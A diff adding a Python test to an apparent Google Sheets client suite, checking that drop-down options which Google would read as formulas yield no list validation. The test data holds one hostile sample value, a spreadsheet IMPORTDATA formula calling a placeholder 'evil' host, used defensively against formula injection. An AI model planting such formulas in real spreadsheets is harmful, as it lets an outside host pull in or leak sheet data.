@@ -140,6 +140,13 @@ def test_options_become_a_drop_down_of_the_whole_column(client: SheetsClient, sh
     assert "dataValidation" not in data[0]["values"][1]
 
 
+def test_options_that_google_would_read_as_formulas_become_no_drop_down(client: SheetsClient, sandbox: Any) -> None:
+    sheet = Spreadsheet(sandbox, ("Code",), ("a",))
+    hostile = linked("Code", Code=PlainCodec(options=("open", '=IMPORTDATA("http://evil")')))
+    prepare_tab(client, sheet.id, "Orders", "orders", hostile)
+    assert "ONE_OF_LIST" not in str(sheet.whole())
+
+
 def test_what_stands_right_of_the_headers_makes_room_and_is_not_overwritten(
     client: SheetsClient, sandbox: Any
 ) -> None:
